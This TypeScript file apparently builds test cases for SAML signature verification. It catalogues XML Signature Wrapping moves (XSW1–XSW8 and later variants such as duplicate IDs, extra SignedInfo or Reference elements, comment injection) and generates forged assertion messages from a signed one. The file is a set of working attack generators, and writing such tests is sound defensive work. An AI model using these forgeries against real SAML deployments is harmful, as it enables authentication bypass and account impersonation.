/** The parts that an attacker has: a signed assertion, and the power to write anything else. */
export interface MovedParts {
  /** As signed. */
  readonly original: string;
  readonly signature: string;
  /** The signed content without its signature. */
  readonly bare: string;
  /** What the attacker wrote: its own ID, no signature. */
  readonly evil: string;
  /** The same under the ID that was signed. */
  readonly evilTwin: string;
}

/** Where the parts stand in a message: text of the security header, and of the body. */
export interface AssertionMove {
  readonly name: string;
  message(parts: MovedParts): readonly [header: string, body?: string];
}

/** The ID that an assertion must have for the moves here. */
export const SIGNED_ID = '_signed';
const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/s;
const SIGNED_INFO = /<ds:SignedInfo .*<\/ds:SignedInfo>/s;
const REFERENCE = /<ds:Reference .*<\/ds:Reference>/s;

/** @param forge changes what the attacker wants to be otherwise, everywhere. */
export function partsOf(original: string, forge: (text: string) => string): MovedParts {
  const signature = SIGNATURE.exec(original)![0];
  const bare = original.replace(SIGNATURE, '');
  const evilTwin = forge(bare);
  if (evilTwin === bare) throw new Error('nothing was forged');
  return { original, signature, bare, evilTwin, evil: evilTwin.replace(SIGNED_ID, '_evil') };
}

/** Puts markup right after the Issuer, where a signature stands. */
export function afterIssuer(assertion: string, markup: string): string {
  return assertion.replace('</saml2:Issuer>', () => `</saml2:Issuer>${markup}`);
}

function atEnd(assertion: string, markup: string): string {
  return assertion.replace(/<\/saml2:Assertion>$/, () => `${markup}</saml2:Assertion>`);
}

function inSignature(signature: string, markup: string): string {
  return signature.replace('</ds:Signature>', () => `<ds:Object>${markup}</ds:Object></ds:Signature>`);
}

/** Changes the one value that stands there. */
function changed(text: string, from: string | RegExp, to: string): string {
  const after = text.replace(from, to);
  if (after === text) throw new Error(`nothing to change: ${from}`);
  return after;
}

/** The eight moves that are known by number (Somorovsky and others, 2012), and those that were found since. */
export const ASSERTION_MOVES: readonly AssertionMove[] = [
  {
    name: 'XSW1: the original inside the signature of the forged one',
    message: ({ evil, signature, bare }) => [afterIssuer(evil, inSignature(signature, bare))],
  },
  {
    name: 'XSW2: the original before the detached signature in the forged one',
    message: ({ evil, signature, bare }) => [afterIssuer(evil, `${bare}${signature}`)],
  },
  {
    name: 'XSW3: the forged one before the original',
    message: ({ evil, original }) => [`${evil}${original}`],
  },
  {
    name: 'XSW4: the original inside the forged one',
    message: ({ evil, original }) => [atEnd(evil, original)],
  },
  {
    name: 'XSW5: the forged one keeps the signature, the original is appended',
    message: ({ evil, signature, bare }) => [`${afterIssuer(evil, signature)}${bare}`],
  },
  {
    name: 'XSW6: the original inside the signature that the forged one keeps',
    message: ({ evilTwin, signature, bare }) => [afterIssuer(evilTwin, inSignature(signature, bare))],
  },
  {
    name: 'XSW7: the forged one inside Extensions of the original',
    message: ({ original, evilTwin }) => [atEnd(original, `<Extensions>${evilTwin}</Extensions>`)],
  },
  {
    name: 'XSW8: the original in an Object of the signature, the forged one around it',
    message: ({ evil, signature, original }) => [afterIssuer(evil, inSignature(signature, original))],
  },
  {
    name: 'the original in the body',
    message: ({ evil, signature, bare }) => [afterIssuer(evil, signature), bare],
  },
  { name: 'the forged one in the body', message: ({ original, evil }) => [original, evil] },
  {
    name: 'the forged one under the same ID in the body',
    message: ({ original, evilTwin }) => [original, evilTwin],
  },
  {
    name: 'the ID once more on an element of the body',
    message: ({ original }) => [original, `<thing id="${SIGNED_ID}"/>`],
  },
  {
    name: 'the ID once more as xml:id',
    message: ({ original }) => [original, `<thing xml:id="${SIGNED_ID}"/>`],
  },
  {
    name: 'the forged one in an Advice',
    message: ({ original, evil }) => [atEnd(original, `<saml2:Advice>${evil}</saml2:Advice>`)],
  },
  {
    name: 'content replaced under the signature',
    message: ({ evilTwin, signature }) => [afterIssuer(evilTwin, signature)],
  },
  {
    name: 'a second SignedInfo',
    message: ({ original }) => [original.replace(SIGNED_INFO, (info) => `${info}${info}`)],
  },
  {
    name: 'SignedInfo wrapped in another',
    message: ({ original }) => [
      original.replace(SIGNED_INFO, (info) => `<ds:SignedInfo>${info}</ds:SignedInfo>`),
    ],
  },
  {
    name: 'a second Reference',
    message: ({ original }) => [original.replace(REFERENCE, (reference) => `${reference}${reference}`)],
  },
  {
    name: 'a Reference to the whole message',
    message: ({ original }) => [changed(original, `URI="#${SIGNED_ID}"`, 'URI=""')],
  },
  {
    name: 'a second Signature',
    message: ({ original, signature }) => [afterIssuer(original, signature)],
  },
  {
    name: 'a comment inside a value',
    message: ({ original }) => [changed(original, /(<saml2:NameID[^>]*>..)/, '$1<!-- -->')],
  },
  {
    name: 'a comment inside DigestValue',
    message: ({ original }) => [changed(original, '<ds:DigestValue>', '<ds:DigestValue><!--x-->')],
  },
  {
    name: 'a comment inside the certificate',
    message: ({ original }) => [changed(original, '<ds:X509Certificate>', '<ds:X509Certificate><!--x-->')],
  },
  {
    name: 'a processing instruction inside a value',
    message: ({ original }) => [changed(original, '</saml2:NameID>', '<?x y?></saml2:NameID>')],
  },
  {
    name: 'a relative namespace',
    message: ({ original }) => [
      changed(original, '<saml2:Assertion ', '<saml2:Assertion xmlns:r="relative" '),
    ],
  },
  {
    name: 'an element renamed into another namespace',
    message: ({ original }) => [
      changed(original, /<saml2:NameID[^>]*>(.*)<\/saml2:NameID>/, '<NameID xmlns="urn:evil">$1</NameID>'),
    ],
  },
  {
    name: 'one element more',
    message: ({ original }) => [atEnd(original, '<saml2:AttributeStatement/>')],
  },
];

/**
 * Puts markup into a message at every place where an element may stand: before and behind each tag, but outside of the root.
 * @returns whole messages.
 */
export function everywhere(message: string, markup: string): string[] {
  const tag = /<[^!?][^>]*>/g;
  const places = new Set<number>();
  for (let found = tag.exec(message); found !== null; found = tag.exec(message)) {
    if (found.index > 0) places.add(found.index);
    if (tag.lastIndex < message.length) places.add(tag.lastIndex);
  }
  return [...places].map((at) => `${message.slice(0, at)}${markup}${message.slice(at)}`);
}
